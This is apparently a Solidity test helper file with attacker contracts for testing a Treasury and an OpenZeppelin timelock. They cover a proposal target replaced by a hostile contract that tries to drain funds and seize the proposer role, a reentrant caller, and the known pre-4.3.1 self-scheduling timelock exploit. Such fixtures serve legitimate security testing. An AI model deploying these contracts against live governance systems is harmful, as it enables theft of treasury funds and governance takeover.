// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {Treasury} from "../../../src/Treasury.sol";
import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";

/// @notice What a proposal calls, harmless while it is voted on.
contract HarmlessTarget {
    uint256 public visits;

    function visit() external payable {
        ++visits;
    }
}

/// @notice What stands at the same address when the proposal is executed. It is called by the timelock, and tries everything that
/// the timelock may.
contract HostileTarget {
    uint256 public visits;
    uint256 public done;
    Treasury private immutable TREASURY;
    TimelockController private immutable TIMELOCK;
    address private immutable TOKEN;

    constructor(Treasury treasury, TimelockController timelock, address token) {
        TREASURY = treasury;
        TIMELOCK = timelock;
        TOKEN = token;
    }

    function visit() external payable {
        ++visits;
        _try(address(TREASURY), abi.encodeCall(TREASURY.transferERC20, (TOKEN, address(this), 1)));
        _try(address(TREASURY), abi.encodeCall(TREASURY.setBudget, (address(this), TOKEN, 1, 1)));
        _try(address(TIMELOCK), abi.encodeCall(TIMELOCK.updateDelay, (0)));
        _try(address(TIMELOCK), abi.encodeCall(TIMELOCK.schedule, (address(TREASURY), 0, "", 0, 0, 30 days)));
        _try(address(TIMELOCK), abi.encodeCall(TIMELOCK.grantRole, (TIMELOCK.PROPOSER_ROLE(), address(this))));
    }

    function _try(address target, bytes memory call) private {
        (bool success,) = target.call(call);
        if (success) ++done;
    }
}

/// @notice Calls back once, with what it was told to say.
contract Reentrant {
    address private _target;
    bytes private _call;
    bool private _inside;
    bool public again;

    function prepare(address target, bytes calldata call) external {
        (_target, _call) = (target, call);
    }

    function poke() external {
        if (_inside) return;
        _inside = true;
        (again,) = _target.call(_call);
        _inside = false;
    }
}

/// @notice An executor that schedules the very batch that it is part of, as anybody could before OpenZeppelin 4.3.1.
contract SelfScheduler {
    TimelockController private immutable TIMELOCK;
    address[] private _targets;
    bytes[] private _calls;

    constructor(TimelockController timelock) {
        TIMELOCK = timelock;
        _push(address(timelock), abi.encodeCall(timelock.updateDelay, (0)));
        _push(address(timelock), abi.encodeCall(timelock.grantRole, (timelock.PROPOSER_ROLE(), address(this))));
        _push(address(this), abi.encodeCall(this.schedule, ()));
    }

    function attack() external {
        TIMELOCK.executeBatch(_targets, new uint256[](3), _calls, 0, 0);
    }

    function schedule() external {
        TIMELOCK.scheduleBatch(_targets, new uint256[](3), _calls, 0, 0, 0);
    }

    function _push(address target, bytes memory call) private {
        _targets.push(target);
        _calls.push(call);
    }
}
